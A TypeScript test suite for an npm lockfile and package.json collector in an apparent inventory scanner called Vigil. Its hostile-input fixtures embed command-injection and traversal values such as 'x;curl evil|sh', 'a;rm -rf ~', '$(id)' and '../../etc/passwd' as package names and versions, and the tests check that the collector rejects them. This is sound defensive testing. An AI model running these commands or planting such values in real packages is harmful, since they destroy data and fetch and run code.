import { execFileSync, spawnSync } from 'node:child_process';
import { cpSync, readFileSync, readdirSync, truncateSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Component } from '../../../src/common/model.js';
import { parsePurl } from '../../../src/common/purl.js';
import type { CollectResult, Collector } from '../../../src/inventory/collector.js';
import { MAX_PACKAGE_JSON_BYTES, npmInstalledCollector } from '../../../src/inventory/collectors/npm-installed.js';
import { parseNpmLock, type NpmLockPackage } from '../../../src/inventory/collectors/npm-lock.parse.js';
import { MAX_LOCKFILE_BYTES, npmLockCollector } from '../../../src/inventory/collectors/npm-lock.js';
import { npmLicenses, parseNpmManifest } from '../../../src/inventory/collectors/npm-package-json.parse.js';
import { walk } from '../../../src/inventory/walk.js';
import { PKGDB, makeRoot, runCollector, tempDir } from '../../helpers/fixtures.js';

const NPM = path.join(PKGDB, 'npm');
const REAL = path.join(NPM, 'real-npm-v2');
const read = (rel: string): string => readFileSync(path.join(NPM, rel), 'utf8');
const hasNpm = spawnSync('npm', ['--version'], { stdio: 'ignore' }).status === 0;

interface TrivyRow {
  id: string;
  name: string;
  version: string;
  dev: boolean;
  relationship: string;
}

function trivyRows(pkgs: NpmLockPackage[]): TrivyRow[] {
  return pkgs
    .map((p) => ({
      id: p.version ? `${p.name}@${p.version}` : p.name,
      name: p.name,
      version: p.version,
      dev: p.dev,
      relationship: p.direct === undefined ? 'unknown' : p.direct ? 'direct' : 'indirect',
    }))
    .sort((a, b) => a.id.localeCompare(b.id));
}

/** Walk a root the way a scan does and hand each collector the files it wants. */
async function scanWith(root: string, collectors: Collector[]): Promise<Map<string, CollectResult>> {
  const files = new Map<Collector, string[]>(collectors.map((c) => [c, []]));
  await walk({ root, starts: ['/'] }, (rel, base) => {
    for (const c of collectors) if (c.wants?.(rel, base)) files.get(c)!.push(rel);
  });
  const out = new Map<string, CollectResult>();
  for (const c of collectors) out.set(c.name, await runCollector(c, root, { files: files.get(c)! }));
  return out;
}

const ids = (cs: Array<{ name: string; version: string }>): string[] => [...new Set(cs.map((c) => `${c.name}@${c.version}`))].sort();

describe('npm lockfile parser on trivy fixtures', () => {
  const cases = readdirSync(path.join(NPM, 'trivy')).filter((f) => f.endsWith('.expected.json'));

  it('has every trivy expectation file to check', () => {
    expect(cases).toHaveLength(10);
  });

  for (const exp of cases) {
    const lock = exp.replace('.expected.json', '.json');
    it(`reports what trivy reports for ${lock}`, () => {
      const expected = JSON.parse(read(`trivy/${exp}`)) as { packages: TrivyRow[] | null };
      const parsed = parseNpmLock(read(`trivy/${lock}`));
      expect(parsed.errors).toEqual([]);
      const want = [...(expected.packages ?? [])];
      // The transcribed list predates trivy's fix for array licences, which had dropped
      // this entry; the lockfile installs it as a direct dependency, so Vigil reports it.
      if (lock === 'package-lock_v3_with_legacy_licenses.json') {
        want.push({ id: 'pause-stream@0.0.11', name: 'pause-stream', version: '0.0.11', dev: false, relationship: 'direct' });
      }
      expect(trivyRows(parsed.packages)).toEqual(want.sort((a, b) => a.id.localeCompare(b.id)));
    });
  }

  it('reads the licence field in every historical shape', () => {
    const byName = new Map(parseNpmLock(read('trivy/package-lock_v3_with_legacy_licenses.json')).packages.map((p) => [p.name, p.licenses]));
    expect(byName.get('tv4')).toEqual(['Public Domain', 'MIT']);
    expect(byName.get('pause-stream')).toEqual(['MIT', 'Apache2']);
    expect(byName.get('mustache')).toEqual(['MIT']);
    expect(parseNpmLock(read('syft/array-license-package-lock.json')).packages.map((p) => [p.name, p.licenses])).toEqual([
      ['pause-stream', ['MIT', 'Apache2']],
      ['through', ['MIT']],
    ]);
    expect(npmLicenses('(MIT OR Apache-2.0)')).toEqual(['(MIT OR Apache-2.0)']);
    expect(npmLicenses(undefined, [{ type: 'BSD', url: 'x' }, 'GPL-2.0', 7, null, ' '])).toEqual(['BSD', 'GPL-2.0']);
  });

  it('reports workspace packages as local direct dependencies at their link location', () => {
    const pkgs = parseNpmLock(read('trivy/package-lock_v3_with_workspace.json')).packages;
    const local = pkgs.filter((p) => p.local).map((p) => [p.name, p.version, p.paths]);
    expect(local).toEqual([
      ['function1', '', ['functions/func1']],
      ['nested_func', '1.0.0', ['functions/nested_func']],
    ]);
    expect(pkgs.find((p) => p.name === 'debug' && p.version === '2.6.9')!.paths).toEqual(['functions/nested_func/node_modules/debug']);
  });

  it('keeps aliased installs under the real package name in v1 and v2 lockfiles alike', () => {
    const v1 = parseNpmLock(read('scalibr/v1/package-lock.json'));
    const v2 = parseNpmLock(read('scalibr/v2/package-lock.json'));
    expect(v1.errors).toEqual([]);
    expect(v2.errors).toEqual([]);
    for (const r of [v1, v2]) {
      const a = r.packages.find((p) => p.name === '@fake-registry/a' && p.version === '2.3.4')!;
      expect(a.aliases).toEqual(['a-dev']);
      expect(a.dev).toBe(true);
    }
    // v2 adds the workspace `w`, which a v1 lockfile does not record.
    expect(ids(v2.packages)).toEqual([...ids(v1.packages), 'w@1.0.0'].sort());
    expect(ids(v1.packages)).toEqual(['@fake-registry/a@1.2.3', '@fake-registry/a@2.3.4', '@fake-registry/b@1.0.1', '@fake-registry/b@2.0.0', '@fake-registry/c@1.1.1', '@fake-registry/d@2.2.2']);
  });

  it('reads a lockfile v1 without a name, and rejects the corrupt one', () => {
    expect(parseNpmLock(read('syft/package-lock.json')).packages.map((p) => p.name)).toContain('cowsay');
    expect(() => parseNpmLock(read('syft/corrupt-package-lock.json'))).toThrow(/not valid JSON/);
  });
});

describe('npm on a real npm install (lockfile v2 written by npm 11)', () => {
  const expected = JSON.parse(readFileSync(path.join(REAL, 'expected.json'), 'utf8')) as {
    count: number;
    unique_name_at_version: string[];
    packages: Array<{ path: string; name: string; version: string; dev: boolean; optional: boolean; devOptional: boolean; installed: boolean }>;
  };

  it('finds every lock entry at its path, with flags merged over its locations', () => {
    const parsed = parseNpmLock(readFileSync(path.join(REAL, 'package-lock.json'), 'utf8'));
    expect(parsed.lockfileVersion).toBe(2);
    expect(parsed.packages.reduce((n, p) => n + p.paths.length, 0)).toBe(expected.count);
    expect(parsed.packages).toHaveLength(161);
    for (const p of parsed.packages) {
      const at = expected.packages.filter((e) => p.paths.includes(e.path));
      expect(at.length, `${p.name}@${p.version}`).toBe(p.paths.length);
      expect(new Set(at.map((e) => `${e.name}@${e.version}`))).toEqual(new Set([`${p.name}@${p.version}`]));
      expect([p.dev, p.optional, p.devOptional]).toEqual([at.every((e) => e.dev), at.every((e) => e.optional), at.every((e) => e.devOptional)]);
    }
    const direct = parsed.packages.filter((p) => p.direct).map((p) => p.name).sort();
    expect(direct).toEqual(['@grpc/grpc-js', 'express', 'fsevents', 'jsonwebtoken', 'lodash', 'minimist', 'mocha']);
  });

  it('walks the project, reports lock and node_modules separately, and marks what npm skipped', async () => {
    const results = await scanWith(REAL, [npmLockCollector, npmInstalledCollector]);
    const lock = results.get('npm-lock')!;
    const installed = results.get('npm-installed')!;
    expect(lock.problems).toEqual([]);
    expect(installed.problems).toEqual([]);

    expect(lock.components).toHaveLength(161);
    expect(new Set(lock.components.map((c) => c.locations.join()))).toEqual(new Set(['/package-lock.json']));
    const skipped = lock.components.filter((c) => c.metadata?.installed === false);
    expect(skipped.map((c) => c.purl)).toEqual(['pkg:npm/fsevents@2.3.2']);
    for (const e of expected.packages) {
      const c = lock.components.find((x) => (x.metadata!.paths as string[]).includes(e.path))!;
      if (e.installed) expect(c.metadata!.installed).toBe(true);
    }
    expect(ids(lock.components.filter((c) => c.metadata!.installed))).toEqual([...expected.unique_name_at_version].sort());

    // Every installed manifest, the project's own package.json excepted.
    expect(installed.components).toHaveLength(173);
    expect(installed.components.some((c) => c.locations[0] === '/package.json')).toBe(false);
    expect(ids(installed.components)).toEqual([...expected.unique_name_at_version].sort());
    const grpc = installed.components.find((c) => c.name === '@grpc/grpc-js')!;
    expect(grpc).toMatchObject({ ecosystem: 'npm', version: '1.8.0', purl: 'pkg:npm/%40grpc/grpc-js@1.8.0', locations: ['/node_modules/@grpc/grpc-js/package.json'], licenses: ['Apache-2.0'], foundBy: 'npm-installed' });
    expect(parsePurl(grpc.purl)).toMatchObject({ type: 'npm', namespace: '@grpc', name: 'grpc-js', version: '1.8.0' });
  });

  it.skipIf(!hasNpm)('agrees with `npm ls --all` run on a copy of the project', async () => {
    const { dir, cleanup } = tempDir('vigil-npm-ls-');
    try {
      cpSync(REAL, dir, { recursive: true });
      const out = execFileSync('npm', ['ls', '--all', '--json', '--offline'], {
        cwd: dir,
        encoding: 'utf8',
        stdio: ['ignore', 'pipe', 'ignore'],
        env: { ...process.env, npm_config_update_notifier: 'false', npm_config_fund: 'false', npm_config_audit: 'false' },
      });
      const seen = new Set<string>();
      const visit = (deps: Record<string, { version?: string; missing?: boolean; dependencies?: Record<string, unknown> }> | undefined): void => {
        for (const [name, d] of Object.entries(deps ?? {})) {
          if (d.version && !d.missing) seen.add(`${name}@${d.version}`);
          visit(d.dependencies as never);
        }
      };
      visit(JSON.parse(out).dependencies);
      const results = await scanWith(dir, [npmInstalledCollector]);
      expect(ids(results.get('npm-installed')!.components)).toEqual([...seen].sort());
      expect(seen.size).toBe(expected.unique_name_at_version.length);
    } finally {
      cleanup();
    }
  });
});

describe('npm file selection', () => {
  it('wants lockfiles outside node_modules only', () => {
    const w = (p: string) => npmLockCollector.wants!(p, path.posix.basename(p));
    expect(['/app/package-lock.json', '/npm-shrinkwrap.json', '/srv/x/npm-shrinkwrap.json'].map(w)).toEqual([true, true, true]);
    expect(['/app/node_modules/x/package-lock.json', '/app/node_modules/.package-lock.json', '/app/yarn.lock', '/app/package.json'].map(w)).toEqual([false, false, false, false]);
  });

  it('wants only manifests directly inside node_modules/<name> or node_modules/@scope/<name>', () => {
    const w = (p: string) => npmInstalledCollector.wants!(p, path.posix.basename(p));
    const yes = ['/node_modules/lodash/package.json', '/usr/lib/node_modules/npm/node_modules/@npmcli/arborist/package.json', '/app/node_modules/.pnpm/lodash@4.17.21/node_modules/lodash/package.json'];
    const no = ['/package.json', '/app/package.json', '/node_modules/lodash/lib/package.json', '/node_modules/@scope/package.json', '/node_modules/.bin/package.json', '/x/my_node_modules/a/package.json', '/node_modules/@/a/package.json', '/node_modules/a/package.json.bak'];
    expect(yes.map(w)).toEqual(yes.map(() => true));
    expect(no.map(w)).toEqual(no.map(() => false));
  });
});

const HOSTILE_LOCK = JSON.stringify({
  lockfileVersion: 3,
  packages: {
    '': { name: 'app', dependencies: { good: '1.0.0' } },
    'node_modules/good': { version: '1.0.0', license: 'MIT' },
    'node_modules/../../etc/passwd': { version: '1.0.0' },
    'node_modules/a;rm -rf ~': { version: '1.0.0' },
    'node_modules/$(id)': { version: '1.0.0' },
    'node_modules/`id`': { version: '1.0.0' },
    'node_modules/new\nline': { version: '1.0.0' },
    'node_modules/ok-key': { name: 'x;curl evil|sh', version: '1.0.0' },
    'node_modules/badver': { version: '1.0.0 && rm -rf /' },
    'node_modules/nover': {},
    'node_modules/notobj': 'str',
    'node_modules/@scope': { version: '1.0.0' },
    'node_modules/@scope/ok': { version: '2.0.0' },
    '../outside': { version: '1.0.0' },
  },
});

describe('npm collectors on malformed and hostile input', () => {
  it('reports each bad lockfile as a problem and still reads the good ones', async () => {
    const truncated = read('real-npm-v2/package-lock.json');
    const { root, cleanup } = makeRoot({
      '/a/package-lock.json': truncated.slice(0, truncated.length / 2),
      '/b/package-lock.json': Buffer.from([0x7b, 0x00, 0xff, 0xfe, 0x13, 0x37, 0x00, 0x7d]),
      '/c/package-lock.json': '',
      '/d/package-lock.json': '[]',
      '/e/package-lock.json': HOSTILE_LOCK,
      '/f/npm-shrinkwrap.json': { copy: path.join(NPM, 'trivy/package-lock_v1.json') },
      '/g/package-lock.json': '{"lockfileVersion":3,"packages":[]}',
      '/h/package-lock.json': '\u00ff\u00fe garbage \u0001 not json',
    });
    try {
      truncateSync(path.join(root, 'c/package-lock.json'), MAX_LOCKFILE_BYTES + 1);
      const res = (await scanWith(root, [npmLockCollector])).get('npm-lock')!;
      const codes = Object.fromEntries(['a', 'b', 'c', 'd', 'g', 'h'].map((d) => [d, res.problems.filter((p) => p.path === `/${d}/package-lock.json`).map((p) => p.code)]));
      expect(codes).toEqual({ a: ['corrupt'], b: ['corrupt'], c: ['too-large'], d: ['corrupt'], g: ['corrupt'], h: ['corrupt'] });

      const hostile = res.problems.filter((p) => p.path === '/e/package-lock.json');
      expect(hostile).toHaveLength(10);
      expect(hostile.every((p) => p.code === 'malformed-record' && p.collector === 'npm-lock' && !/[\n\r]/.test(p.message))).toBe(true);
      expect(res.components.filter((c) => c.locations[0] === '/e/package-lock.json').map((c) => c.purl)).toEqual(['pkg:npm/%40scope/ok@2.0.0', 'pkg:npm/good@1.0.0']);
      expect(res.components.filter((c) => c.locations[0] === '/f/npm-shrinkwrap.json')).toHaveLength(31);
      for (const p of res.problems) expect(p.message.length).toBeLessThan(400);
    } finally {
      cleanup();
    }
  });

  it('caps the problems one lockfile can produce', async () => {
    const packages: Record<string, unknown> = {};
    for (let i = 0; i < 500; i++) packages[`node_modules/bad${i}`] = {};
    const { root, cleanup } = makeRoot({ '/package-lock.json': JSON.stringify({ lockfileVersion: 3, packages }) });
    try {
      const res = await runCollector(npmLockCollector, root, { files: ['/package-lock.json'] });
      expect(res.problems).toHaveLength(51);
      expect(res.problems[50]!.message).toBe('450 more bad entries not listed');
    } finally {
      cleanup();
    }
  });

  it('refuses nesting and names in v1 lockfiles that are not npm packages', () => {
    let deep: Record<string, unknown> = { version: '1.0.0' };
    for (let i = 0; i < 300; i++) deep = { version: '1.0.0', dependencies: { d: deep } };
    const r = parseNpmLock(JSON.stringify({ lockfileVersion: 1, dependencies: { '../../x': { version: '1' }, 'ok': { version: 'npm:$(id)@1' }, top: deep } }));
    expect(r.packages.map((p) => p.name)).toEqual(['d', 'top']);
    expect(r.errors).toHaveLength(3);
  });

  it('reads installed manifests leniently and reports only the broken ones', async () => {
    const pj = (rel: string) => ({ copy: path.join(NPM, 'package-json', rel) });
    const { root, cleanup } = makeRoot({
      '/app/package.json': pj('package.json'),
      '/app/node_modules/bootstrap/package.json': pj('package.json'),
      '/app/node_modules/angular/package.json': pj('legacy_package.json'),
      '/app/node_modules/invalid/package.json': pj('invalid_package.json'),
      '/app/node_modules/noversion/package.json': pj('without_version_package.json'),
      '/app/node_modules/example/package.json': pj('workspace_as_map_package.json'),
      '/app/node_modules/example/test/package.json': '{"name":"fixture","version":"0.0.0"}',
      '/app/node_modules/evil/package.json': JSON.stringify({ name: 'evil;rm -rf /\n', version: '1.0.0' }),
      '/app/node_modules/badver/package.json': JSON.stringify({ name: 'badver', version: '1.0.0\n$(id)' }),
      '/app/node_modules/bin/package.json': Buffer.from([0x7b, 0x00, 0x01, 0x02]),
      '/app/node_modules/huge/package.json': '{}',
      '/app/node_modules/array/package.json': '[1,2]',
      '/app/node_modules/alias-dir/package.json': JSON.stringify({ name: 'real-name', version: '2.0.0', license: { type: 'ISC' } }),
      '/usr/lib/node_modules/@scope/tool/package.json': JSON.stringify({ name: '@scope/tool', version: '3.1.4', licenses: [{ type: 'MIT' }] }),
    });
    try {
      truncateSync(path.join(root, 'app/node_modules/huge/package.json'), MAX_PACKAGE_JSON_BYTES + 1);
      const res = (await scanWith(root, [npmInstalledCollector])).get('npm-installed')!;
      const rows = res.components.map((c: Component) => [c.purl, c.locations[0], c.licenses ?? null, c.metadata ?? null]);
      expect(rows.sort()).toEqual(
        [
          ['pkg:npm/%40scope/tool@3.1.4', '/usr/lib/node_modules/@scope/tool/package.json', ['MIT'], null],
          ['pkg:npm/angular@4.1.2', '/app/node_modules/angular/package.json', ['ISC'], null],
          ['pkg:npm/bootstrap@5.0.2', '/app/node_modules/bootstrap/package.json', ['MIT'], null],
          ['pkg:npm/example@1.0.0', '/app/node_modules/example/package.json', null, null],
          ['pkg:npm/real-name@2.0.0', '/app/node_modules/alias-dir/package.json', ['ISC'], { aliases: ['alias-dir'] }],
        ].sort(),
      );
      const probs = Object.fromEntries(res.problems.map((p) => [p.path.split('/')[3], p.code]));
      expect(probs).toEqual({ invalid: 'corrupt', evil: 'malformed-record', badver: 'malformed-record', bin: 'corrupt', huge: 'too-large', array: 'corrupt' });
      expect(res.problems.every((p) => !/[\n\r]/.test(p.message))).toBe(true);
    } finally {
      cleanup();
    }
  });

  it('parses the package.json samples', () => {
    const pj = (f: string) => readFileSync(path.join(NPM, 'package-json', f), 'utf8');
    expect(parseNpmManifest(pj('package.json'))).toEqual({ name: 'bootstrap', version: '5.0.2', licenses: ['MIT'], private: false });
    expect(parseNpmManifest(pj('legacy_package.json'))).toMatchObject({ name: 'angular', version: '4.1.2', licenses: ['ISC'] });
    expect(parseNpmManifest(pj('without_version_package.json'))).toEqual({ name: 'angular', licenses: [], private: false });
    expect(() => parseNpmManifest(pj('invalid_package.json'))).toThrow(/not valid JSON/);
  });
});
